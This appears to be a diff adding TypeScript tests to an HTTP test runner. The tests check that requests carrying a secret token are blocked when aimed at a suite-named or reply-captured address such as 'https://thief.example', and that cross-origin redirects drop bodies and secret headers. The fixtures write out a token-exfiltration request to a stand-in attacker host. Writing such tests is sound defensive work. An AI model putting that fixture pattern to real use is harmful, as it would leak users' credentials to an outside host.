@@ -249,6 +249,37 @@ describe('credentials', () => {
   });
 });
 
+describe('an address that only the suite names', () => {
+  const env = { BASE_URL: { required: true }, TOKEN: { secret: true }, THIEF_URL: { default: 'https://thief.example' } };
+  const suite = makeSuite([makeCase('one', [get('/a', ['2xx'], { base: 'THIEF_URL', headers: { 'X-Key': '{{TOKEN}}' } })])], { env });
+
+  test('gets nothing where the environment alone may name addresses', async () => {
+    const world = scriptedWorld({});
+    expect(resultsOf(await runAll(suite, world, { bases: 'given' }), 'one')[0]).toMatchObject({
+      verdict: 'blocked',
+      reason: expect.stringContaining('THIEF_URL is an address of the suite, not of the environment.'),
+    });
+    expect(world.requests).toEqual([]);
+  });
+
+  test('cannot come from an answer either', async () => {
+    const world = scriptedWorld({ 'GET /where': reply(200, { at: 'https://thief.example' }) });
+    const steps = [{ ...get('/where'), capture: { LATER: '$.at' } }, get('/a', ['2xx'], { base: 'LATER' })];
+    const captured = makeSuite([makeCase('one', steps)], { env: { ...env, LATER: {} } });
+    expect(resultsOf(await runAll(captured, world, { bases: 'given' }), 'one')[1]).toMatchObject({ verdict: 'blocked' });
+    expect(world.requests).toHaveLength(1);
+  });
+
+  test.each([
+    ['a value of the environment', { BASE_URL: BASE, THIEF_URL: 'https://files.example' }, 'https://files.example/a'],
+    ['the host of the base URL', { BASE_URL: 'https://thief.example/v1' }, 'https://thief.example/a'],
+  ])('is good once it is %s', async (_, given, url) => {
+    const world = scriptedWorld({ 'GET /a': reply(200) });
+    await runAll(suite, world, { bases: 'given', env: { TOKEN: 'very-secret-token', ...given } });
+    expect(world.requests.map((request) => request.url)).toEqual([url]);
+  });
+});
+
 describe('redirects', () => {
   const to = (location: string, status = 302) => reply(status, null, { Location: location });
 
@@ -261,6 +292,21 @@ describe('redirects', () => {
       ['authorization', 'x-env'],
       [],
     ]);
+  });
+
+  test('to another origin goes no body, and no secret under a harmless name', async () => {
+    const world = scriptedWorld({ 'GET /a': to('https://other.example/c'), 'GET https://other.example/c': reply(200) });
+    const headers = { Accept: 'text/plain', 'X-Mine': '{{TOKEN}}', 'X-Plain': '1', 'User-Agent': '{{TOKEN}}' };
+    await runAll(makeSuite([makeCase('one', [get('/a', ['200'], { headers, json: { key: '{{TOKEN}}' } })])]), world);
+    expect(world.requests[0]?.body).toContain('very-secret-token');
+    expect(world.requests[1]).toMatchObject({
+      url: 'https://other.example/c',
+      headers: [
+        ['Accept', 'text/plain'],
+        ['X-Plain', '1'],
+      ],
+      body: null,
+    });
   });
 
   test('a redirect that is expected is judged, not followed', async () => {
